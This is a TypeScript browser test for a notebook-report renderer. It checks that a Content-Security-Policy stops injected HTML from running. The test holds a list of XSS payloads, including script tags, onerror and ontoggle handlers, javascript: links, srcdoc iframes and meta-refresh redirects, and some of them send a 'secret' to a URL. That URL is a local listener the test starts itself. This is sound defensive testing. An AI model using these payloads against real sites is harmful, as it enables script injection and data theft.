// The report in headless Chromium against the fault probe's payloads: raw HTML in a markdown
// cell, HTML a cell printed, and data (a table, a chart's values) try to run script, open a
// dialog or send a secret away. None may; the report's own scripts (the live chart with its
// tooltips, the code toggle) still run.
import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { renderReport } from "../../src/report";
import { CHROMIUM, launchChromium } from "../chromium";
import { scratch } from "../helpers";
import { testWith } from "../tools";
import { barSpec, code, display, info, md, notebook, VEGALITE } from "./fixtures";

function payloads(leak: string, tag: string): string {
  return [
    `<script>alert("${tag} script")</script>`,
    `<script>location.href = "${leak}?secret=${tag}-script"</script>`,
    `<details open ontoggle="alert('${tag} ontoggle')"><summary>more</summary>hidden</details>`,
    `<iframe srcdoc="<script>parent.alert('${tag} srcdoc')</script>"></iframe>`,
    `<a id="${tag}-js" href="javascript:alert('${tag} link')">a link</a>`,
    `<img src="x" onerror="location.href = '${leak}?secret=${tag}-onerror'">`,
    `<svg><a xlink:href="javascript:alert('${tag} svg')"><text y="20" id="${tag}-svg">svg</text></a></svg>`,
    `<meta http-equiv="refresh" content="0;url=${leak}?secret=${tag}-refresh">`,
    `<form action="${leak}"><button id="${tag}-submit">send</button></form>`,
  ].join("\n");
}

testWith(test, "no payload runs, opens a dialog or leaves the file; the charts still become live with tooltips", CHROMIUM, async (chromium) => {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.end("got it");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const port = (server.address() as { port: number }).port;
  const leak = `http://127.0.0.1:${port}/`;
  const { dir, cleanup } = scratch();
  const browser = await launchChromium(chromium);
  try {
    const chart = barSpec("Payloads in data");
    chart["data"] = { values: [{ a: `<script>alert("data")</script>`, b: 3 }, { a: `<img src=x onerror=alert("data")>`, b: 5 }, { a: "C", b: 2 }] };
    const nb = notebook([
      md(`# Probe\n\n${payloads(leak, "md")}\n\ntext after`),
      code("html()", [display({ "text/html": payloads(leak, "out") })]),
      code("table()", [display({ "text/html": `<table><tr><td>&lt;script&gt;alert("cell")&lt;/script&gt;</td></tr></table>` }), display({ "text/plain": `<script>alert("plain")</script>` })]),
      code("chart()", [display({ [VEGALITE]: chart })]),
    ]);
    const html = await renderReport(nb, info(), { includeCode: true });
    const csp = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? "";
    assert.match(csp, /script-src 'sha256-[^']+'/);
    assert.not.match(/script-src [^;]*/.exec(csp)?.[0] ?? "", "unsafe");
    const file = join(dir, "probe.html");
    writeFileSync(file, html);

    const context = await browser.newContext({ javaScriptEnabled: true });
    const page = await context.newPage();
    const dialogs: string[] = [];
    const navigations: string[] = [];
    const errors: string[] = [];
    page.on("dialog", (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on("framenavigated", (f) => navigations.push(f.url()));
    page.on("pageerror", (e) => errors.push(e.message));
    await page.goto(`file://${file}`, { waitUntil: "load" });
    for (const id of ["md-js", "out-js", "md-svg", "out-svg", "md-submit", "out-submit"]) {
      const target = page.locator(`#${id}`);
      if ((await target.count()) > 0) await target.click({ timeout: 2000 }).catch(() => {});
    }
    await page.waitForTimeout(1500);
    assert.equal(dialogs, [], "no dialog");
    assert.equal(hits, [], "nothing reached the listener");
    assert.equal(page.url(), `file://${file}`, "still on the report");
    assert.equal(navigations.filter((u) => u !== `file://${file}`), [], "no navigation, not even in a frame");
    assert.equal(errors, [], "the report's own scripts ran without error");
    assert.match(await page.locator("details").first().innerText(), "hidden", "a details element is kept, without its handler");

    // The chart turned live (the static SVG was swapped) and shows a tooltip on hover.
    await page.locator("figure.chart .chart-live svg").waitFor({ timeout: 10_000 });
    const bar = page.locator("figure.chart .chart-live svg .mark-rect path").nth(2);
    await bar.hover();
    const tooltip = page.locator("#vg-tooltip-element");
    await tooltip.waitFor({ state: "visible", timeout: 5000 });
    assert.match(await tooltip.innerText(), "C");
    await context.close();
  } finally {
    await browser.close();
    server.close();
    cleanup();
  }
});

test.run();
